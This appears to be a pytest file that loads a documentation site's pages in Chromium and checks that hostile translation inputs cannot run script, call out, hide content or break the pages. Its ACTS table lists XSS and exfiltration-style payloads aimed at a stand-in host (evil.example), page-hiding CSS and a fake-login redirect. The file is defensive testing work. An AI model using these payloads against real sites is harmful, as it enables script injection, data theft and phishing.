"""Nothing that a stranger types acts, crashes, hides a page or gets lost: each case of ``hostile/``, in Chromium."""

import shutil
from pathlib import Path
from random import Random
from typing import NamedTuple

import corpus
import payloads
import pytest
import searches
import watching
from conftest import no_faults
from playwright.sync_api import Browser

CASES = corpus.cases()


class Target(NamedTuple):
    """The *site* that is attacked, the same as it was *before*, and what its pages looked like then."""

    site: Path
    before: Path
    pages: dict[str, watching.Seen]


@pytest.fixture(scope="session")
def prepared(tmp_path_factory: pytest.TempPathFactory, browser: Browser) -> Target:
    """The charter with a German edition, built and looked at once."""
    folder = tmp_path_factory.mktemp("hostile")
    # Built where each case attacks it: Sphinx remembers the paths of what it has read.
    site = corpus.prepare(folder / "attacked/site")
    before = Path(shutil.copytree(site, folder / "before", symlinks=True))
    return Target(site, before, watching.look(browser, before / "_build/html"))


@pytest.fixture
def target(prepared: Target) -> Target:
    """The same, to be attacked; nothing is left of what another case has done."""
    shutil.rmtree(prepared.site.parent)
    shutil.copytree(prepared.before, prepared.site, symlinks=True)
    return prepared


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_each_case(target: Target, browser: Browser, case: corpus.Case) -> None:
    found, built = corpus.attack(target.site, case)
    if built:
        html = target.site / "_build/html"
        pages = corpus.changed_pages(target.site, target.before)
        seen = watching.look(browser, html, pages) if pages else {}
        found += watching.faults(seen, target.pages)
        text = "\n".join(page.text for page in {**target.pages, **seen}.values())
        found += [f"no page shows {shown!r}" for shown in case.shown if shown not in text]
        found += [f"a page shows {shown!r}" for shown in case.absent if shown in text]
    assert not found, "\n".join([case.attacks, *found])


def test_the_corpus_is_whole() -> None:
    assert len(CASES) >= 60
    assert len({case.attacks for case in CASES}) == len(CASES)


def test_nothing_acts_in_the_pages_that_nobody_has_attacked(prepared: Target) -> None:
    policy = '<meta http-equiv="content-security-policy">'
    whole = {name: page for name, page in prepared.pages.items() if page.landmarks["h1"]}
    assert len(whole) >= 3 * 8
    with no_faults() as wrong:
        for name, page in prepared.pages.items():
            wrong.add_at(name, *page.faults, *(f"there is {thing}" for thing in page.acting if thing != policy))
            if name in whole and not page.acting[policy]:
                wrong.add_at(name, "there is no policy")


PAGE = "<!DOCTYPE html><html lang=en><title>x</title>{}<article><h1>Heading</h1><p>Text</p></article></html>"
ACTS = {
    "a dialog": ("<script>alert(1)</script>", "a dialog (alert): 1"),
    "a question": ("<img src=x onerror=confirm(2)>", "a dialog (confirm): 2"),
    "a handler that waits": ("<b onclick=alert(1)>x</b>", 'there is <b onclick="alert(1)">'),
    "a request": ("<script>fetch('https://evil.example/')</script>", "asked for: https://evil.example/"),
    "a picture": ("<img src=https://evil.example/x.png>", "asked for: https://evil.example/x.png"),
    "a beacon": ("<script>navigator.sendBeacon('//evil.example/')</script>", "asked for: http://evil.example/"),
    "a socket": ("<script>new WebSocket('ws://evil.example/')</script>", "asked for: ws://evil.example/"),
    "another style": ("<style>@import 'https://evil.example/x.css'</style>", "asked for: https://evil.example/x.css"),
    "a module": ("<script type=module src=//evil.example/x.js></script>", "asked for: http://evil.example/x.js"),
    "a refresh": ('<meta http-equiv=refresh content="9;url=x">', 'there is <meta http-equiv="refresh">'),
    "a base": ("<base href=https://evil.example/>", "there is <base>"),
    "a form": ("<form action=https://evil.example/></form>", 'there is <form action="https://evil.example/">'),
    "a frame": ("<iframe srcdoc=x></iframe>", "there is <iframe>"),
    "a drawing": ("<svg><animate onbegin=alert(3) attributeName=x dur=1s></svg>", "there is <animate onbegin"),
    "a link": ("<a href='java&#9;script:alert(4)'>x</a>", "a dialog (alert): 4"),
    "data": ("<a href='data:text/html,x'>x</a>", 'there is <a href="data:text/html,x">'),
    "a window": ("<script>open('about:blank')</script>", "opened a window: about:blank"),
    "a hidden page": ("<style>*{display:none}</style>", "hidden: the heading cannot be seen"),
    "a faint page": ("<style>article{opacity:0}</style>", "hidden: the heading cannot be seen"),
    "a page far away": ("<style>article{position:fixed;left:-999em}</style>", "hidden: the heading is out of sight"),
    "a covered page": ("<div style='position:fixed;inset:0'>x</div>", "hidden: <div> stands before the heading"),
    "another page": ("<script>history.pushState(0, '', '/login.html')</script>", "gone to: /login.html"),
    "an error": ("<script>throw Error('x')</script>", "an error: x"),
    "a console": ("<script>console.error('x')</script>", "console: x"),
    "a file that is not there": ("<img src=none.png>", "console: Failed to load resource"),
    "the policy": (
        "<meta http-equiv=Content-Security-Policy content=\"default-src 'self'\"><b style=color:red>x</b>",
        "a violation of the policy: style-src-attr inline",
    ),
    "a comment": ("<!--", "1 <article> gone"),
}
"""What the test above relies on being noticed, and by which sentence it is."""


@pytest.mark.parametrize("act", ACTS)
def test_what_acts_is_noticed(tmp_path: Path, browser: Browser, act: str) -> None:
    body, sentence = ACTS[act]
    (tmp_path / "before.html").write_text(PAGE.format(""), encoding="utf-8")
    (tmp_path / "page.html").write_text(PAGE.format(body), encoding="utf-8")
    seen = watching.look(browser, tmp_path, ["before.html", "page.html"])
    assert seen["before.html"].faults == []
    found = watching.faults({"page.html": seen["page.html"]}, {"page.html": seen["before.html"]})
    assert any(one.startswith(sentence) for one in found), found


def test_what_a_search_finds_is_a_case(tmp_path: Path) -> None:
    fragments = [fragment for kind in payloads.EVERYTHING for fragment in kind] + payloads.TRICKS
    edits = [{"path": "x.po", "message": "Close", "translation": fragment} for fragment in fragments]
    (tmp_path / "found.toml").write_text(searches.case('A "word".', edits, ["check x.po", "build"]), encoding="utf-8")
    found = corpus.read(tmp_path / "found.toml")
    assert (found.name, found.attacks, found.edits) == ("found", 'A "word".', edits)
    assert [one["command"] for one in found.runs] == ["check x.po", "build"]


def test_what_a_search_finds_is_narrowed_down() -> None:
    tried: list[list[int]] = []

    def shows(numbers: list[int]) -> list[str]:
        tried.append(numbers)
        return [f"it is {number}" for number in (7, 71) if number in numbers]

    assert searches.narrow(list(range(100)), shows) == ([7], ["it is 7"])
    assert len(tried) < 20
    assert searches.narrow([1, 2, 3], lambda numbers: ["all three"] * (len(numbers) == 3)) == ([1, 2, 3], ["all three"])


def test_a_seed_is_all_there_is_to_know_of_a_search() -> None:
    first, again, other = ([payloads.text(random) for _ in range(50)] for random in map(Random, (1, 1, 2)))
    assert first == again != other
    assert {len(payloads.long_run(Random(seed))) for seed in range(9)} == {40_000}
